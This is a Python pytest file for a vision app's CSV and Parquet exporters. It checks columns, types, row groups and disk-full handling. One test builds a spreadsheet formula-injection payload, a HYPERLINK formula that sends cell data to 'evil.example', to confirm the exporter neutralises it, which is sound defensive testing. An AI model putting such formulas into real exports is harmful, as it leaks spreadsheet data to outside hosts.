"""CSV and Parquet: the same columns, read back by readers that are not ours."""

import csv
import errno
import gc
import io
import json
import sys
from datetime import datetime, timezone
from typing import Any

import pyarrow as pa
import pyarrow.parquet
import pytest
from hypothesis import example, given, settings

from tests.vision_app.export.samples import exported, frame, labelled, labels, reasons, texts
from tests.vision_app.export.samples import written as record
from vision_app.errors import AppError
from vision_app.export.kept import Kept
from vision_app.export.parquet import Parquet

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "=", "+", "-", "@")


def rows(text: bytes) -> list[dict[str, str]]:
    decoded = io.StringIO(text.decode("utf-8"), newline="")
    return list(csv.DictReader(decoded, strict=True))


def plain(cell: str) -> str:
    """What the record says, as the module describes it."""
    return cell.removeprefix("'")


def test_a_row_says_all_but_the_scores() -> None:
    (row,) = rows(exported("csv", [frame()]))
    written = record()
    assert row == {
        "source_ref": f"s3://farm-frames/site-a/{written['key']}",
        "id": written["id"],
        "site": "farm",
        "device": "cam1",
        "camera": "door",
        "captured_at": "2026-01-31T12:00:01.250Z",
        "seq": "1",
        "width": "128",
        "height": "96",
        "size_bytes": str(written["size_bytes"]),
        "sha256": written["sha256"],
        "label": "ripe",
        "confidence": "0.5",
        "margin": "0.2",
        "entropy": "1.029653",
        "reasons": "low_confidence",
        "chosen_by": "low_confidence",
        "value": "0.75",
        "suppressed": "2",
        "treatment": "masked",
        "exempt_because": "",
        "faces": "1",
        "model_name": "tomatoes",
        "model_version": "3",
        "model_sha256": "ab" * 32,
    }


def test_lines_end_as_the_rfc_says() -> None:
    text = exported("csv", [frame(), frame()])
    assert text.count(b"\r\n") == text.count(b"\n") == 3
    assert exported("csv", []) == text[: text.index(b"\n") + 1]


def test_no_cell_computes_in_a_spreadsheet() -> None:
    for begin in FORMULA:
        text = f'{begin}HYPERLINK("http://evil.example?"&A1,"ripe")'
        (row,) = rows(exported("csv", [labelled((text, "green"))]))
        assert row["label"] == "'" + text


@settings(deadline=None)
@given(labels, reasons, texts)
@example(labels=("'=1",), reasons=["a"], version="'")
def test_odd_labels_stay_in_their_cells(
    labels: tuple[str, ...], reasons: list[str], version: str
) -> None:
    model = record()["model"] | {"version": version}
    one = labelled(labels, reasons=reasons, model=model)
    (row,) = rows(exported("csv", [one]))
    assert plain(row["label"]) == labels[0]
    assert plain(row["model_version"]) == version
    assert row["reasons"].split(" ") == reasons
    assert not any(cell.startswith(FORMULA) for cell in row.values())


def table(text: bytes) -> Any:
    return pyarrow.parquet.read_table(io.BytesIO(text))


def test_parquet_has_types_and_all_scores() -> None:
    found = table(exported("parquet", [frame()]))
    written = record()
    types = {field.name: field.type for field in found.schema}
    assert types["captured_at"] == pa.timestamp("ms", tz="UTC")
    assert types["scores"] == pa.list_(pa.field("element", pa.float32()))
    assert types["reasons"].value_type == types["labels"].value_type == pa.string()
    assert types["confidence"] == pa.float64()
    assert types["seq"] == pa.int64()
    assert found.schema.metadata[b"schema"] == b"vision-app/record/1"

    (row,) = found.to_pylist()
    moment = datetime(2026, 1, 31, 12, 0, 1, 250_000, tzinfo=timezone.utc)
    assert row.pop("captured_at") == moment
    assert row.pop("scores") == pytest.approx([0.5, 0.3, 0.2])
    assert row.pop("labels") == ["ripe", "green", "rotten"]
    assert row.pop("reasons") == ["low_confidence"]
    (of_csv,) = rows(exported("csv", [frame()]))
    assert {name: str(value) for name, value in row.items()} == {
        name: of_csv[name] for name in of_csv if name not in ("captured_at", "reasons")
    }
    assert row["size_bytes"] == written["size_bytes"]


@settings(deadline=None)
@given(labels, reasons)
def test_odd_labels_are_the_same_in_parquet(labels: tuple[str, ...], reasons: list[str]) -> None:
    (row,) = table(exported("parquet", [labelled(labels, reasons=reasons)])).to_pylist()
    assert (row["label"], row["labels"], row["reasons"]) == (labels[0], list(labels), reasons)


@pytest.mark.parametrize(
    ("bounds", "groups"),
    [({"max_rows": 10}, [10, 10, 5]), ({"max_scores": 20}, [7, 7, 7, 4]), ({}, [25])],
)
def test_row_groups_bound_what_is_held(bounds: dict[str, int], groups: list[int]) -> None:
    file = io.BytesIO()
    writer = Parquet(file, **bounds)
    for _ in range(25):
        writer.add(frame())
    writer.finish()
    writer.close()
    about = pyarrow.parquet.ParquetFile(file).metadata
    assert [about.row_group(n).num_rows for n in range(about.num_row_groups)] == groups
    assert about.row_group(0).column(0).compression == "ZSTD"


def test_nothing_is_a_parquet_file_without_rows() -> None:
    assert table(exported("parquet", [])).num_rows == 0


class FullDisk(io.BytesIO):
    """Takes so many bytes."""

    def __init__(self, room: int) -> None:
        super().__init__()
        self._room = room

    def write(self, data: Any) -> int:
        self._room -= len(data)
        if self._room < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return len(data)


@pytest.mark.parametrize("room", [4, 3_000])
def test_a_full_disk_is_told(room: int) -> None:
    writer = Parquet(FullDisk(room), max_rows=5)
    with pytest.raises(OSError, match="No space left"):
        fill(writer)
    writer.close()


def test_an_export_that_is_given_up_writes_and_says_nothing_more() -> None:
    """Forgotten, pyarrow's writer would write to the closed file and complain on the terminal."""
    file = FullDisk(4)
    writer = Parquet(file)
    writer.add(frame())
    writer.close()
    file.close()
    del writer
    gc.collect()


def fill(writer: Parquet) -> None:
    for number in range(100):
        writer.add(numbered(number))
    writer.finish()


def numbered(number: int) -> Kept:
    return labelled((json.dumps([number] * 50), "green"))


def test_parquet_without_pyarrow_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(AppError, match=r"pip install 'vision-app\[export\]'"):
        exported("parquet", [])
